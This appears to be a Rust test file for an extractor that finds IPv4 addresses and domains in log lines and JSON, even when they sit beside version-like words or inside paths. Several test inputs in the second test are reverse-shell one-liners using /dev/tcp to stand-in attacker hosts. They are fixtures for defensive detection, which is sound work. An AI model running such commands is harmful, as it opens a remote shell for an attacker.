//! What stands around a value, or the field that it stands in, decides what it is.

use super::*;

#[test]
fn a_word_of_machines_and_versions_does_not_hide_an_address() {
    const ADDRESS: &str = "ipv4:203.0.113.31";
    check(&[
        ("port", "agent 203.0.113.31:1514 connected", ADDRESS),
        ("port of a number like a version", "Build 12.1.4.2:8080 seen", "ipv4:12.1.4.2"),
        ("port of BIND", "agent 12.1.4.2#53", "ipv4:12.1.4.2"),
        ("prefix", "patch 12.1.4.2/32", "ipv4:12.1.4.2"),
        ("state", "zabbix agent 10.1.2.3 down", "ipv4:10.1.2.3"),
        ("state behind a verb", "Agent 12.1.4.2 is not responding", "ipv4:12.1.4.2"),
        ("up", "agent 12.1.4.2 is up", "ipv4:12.1.4.2"),
        ("up to date", "agent 12.1.4.2 is up to date", ""),
        (
            "shape",
            "relay agent 203.0.113.31, DHCP release 203.0.113.31, kernel 203.0.113.31: martian source, upgrade 203.0.113.31 failed",
            ADDRESS,
        ),
        ("shape of three digits", "driver 5.188.206.114", "ipv4:5.188.206.114"),
        ("shape behind another", "agent from 203.0.113.31", ADDRESS),
        ("shape of a version", "agent 7.50.1.2, Build 22.10.3.12, kernel 5.14.0.70, Edge 120.0.0.0", ""),
        ("inside", "upgraded agent from 10.1.0.2 to 10.1.0.3", ""),
        ("words of versions alone", "firmware 203.0.113.31, version 203.0.113.31", ""),
        ("field of versions", r#"{"os":"from 203.0.113.31:443 evil"}"#, ADDRESS),
        ("version in it", r#"{"os":"10.1.2.3","kernel":"203.0.113.31"}"#, ""),
        ("word that ends like another", r#"{"conversion":"203.0.113.31"}"#, ADDRESS),
        ("the same in a text", "conversion 203.0.113.31, inversion 203.0.113.31", ADDRESS),
        ("ends in it", r#"{"minVersion":"1.2.3.4","pluginversion":"1.2.3.4","app_version":"1.2.3.4"}"#, ""),
    ]);
}

#[test]
fn a_path_does_not_hide_an_address() {
    const ADDRESS: &str = "ipv4:203.0.113.64";
    check(&[
        ("socket of a shell", "bash -i >& /dev/tcp/203.0.113.64/4444 0>&1", ADDRESS),
        ("like a version", "exec 5<>/dev/udp/12.1.4.2/53", "ipv4:12.1.4.2"),
        ("socket with a name", "cat </dev/tcp/evil.example.com/4444", "domain:evil.example.com"),
        (
            "command line",
            r#"{"process":{"command_line":"bash -c 'bash -i >& /dev/tcp/203.0.113.64/4444 0>&1'"}}"#,
            ADDRESS,
        ),
        (
            "arguments",
            r#"{"process":{"args":["-c","exec 5<>/dev/tcp/evil.example.com/443"]}}"#,
            "domain:evil.example.com",
        ),
        ("other devices", "/dev/disk/evil.example.com/x", ""),
        ("request", "GET /check/203.0.113.64/full HTTP/1.1", ADDRESS),
        ("interface", "/api/203.0.113.64/x", ADDRESS),
        ("one slash", "smb:/203.0.113.64/x", ADDRESS),
        ("directories of versions", "/opt/app/1.2.3.4/bin /opt/chrome/131.0.6.86/chrome /lib/10.2.3.4/x", ""),
    ]);
}
